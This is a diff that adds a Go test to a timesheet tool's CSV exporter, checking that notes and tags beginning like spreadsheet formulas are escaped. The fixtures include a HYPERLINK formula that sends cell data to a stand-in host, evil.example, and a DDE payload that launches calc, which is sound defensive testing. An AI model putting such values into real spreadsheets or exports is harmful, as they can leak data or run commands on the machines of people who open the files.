@@ -82,6 +82,37 @@ func TestExportGoldens(t *testing.T) {
 	}
 }
 
+// TestCSVCellsAreNeverFormulas: stint's own CSV, opened in a spreadsheet,
+// shows notes and tags that start like a formula as text.
+func TestCSVCellsAreNeverFormulas(t *testing.T) {
+	var entries []timesheet.Entry
+	for i, note := range []string{
+		`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
+		"=", "plain note", " =not at the start", "'already quoted", "",
+	} {
+		start := at("2024-04-01T09:00:00Z").Add(time.Duration(i) * time.Hour)
+		entries = append(entries, timesheet.Entry{ID: int64(i + 1), Client: "acme", Start: start,
+			End: timesheet.TimePtr(start.Add(30 * time.Minute)), Note: note, Billable: true, Source: timesheet.SourceManual})
+	}
+	entries[0].Tags = []string{"=cmd|' /C calc'!A0", "ok"}
+	entries[1].Tags = []string{"ok", "=second"}
+	var b bytes.Buffer
+	require.NoError(t, WriteCSV(&b, entries))
+	assertGolden(t, "export_formulas.csv", b.Bytes())
+
+	rows, err := csv.NewReader(&b).ReadAll()
+	require.NoError(t, err)
+	for _, row := range rows[1:] {
+		for _, cell := range row[5:7] {
+			if cell != "" {
+				assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %q would be a formula", cell)
+			}
+		}
+	}
+	assert.Equal(t, "plain note", rows[8][5], "ordinary text is untouched")
+	assert.Equal(t, "ok;=second", rows[2][6], "only a cell's first character counts")
+}
+
 func TestExportHeadersAreExact(t *testing.T) {
 	want := map[Format]string{
 		FormatCSV:      "id,client,start,end,duration_seconds,note,tags,billable,source",
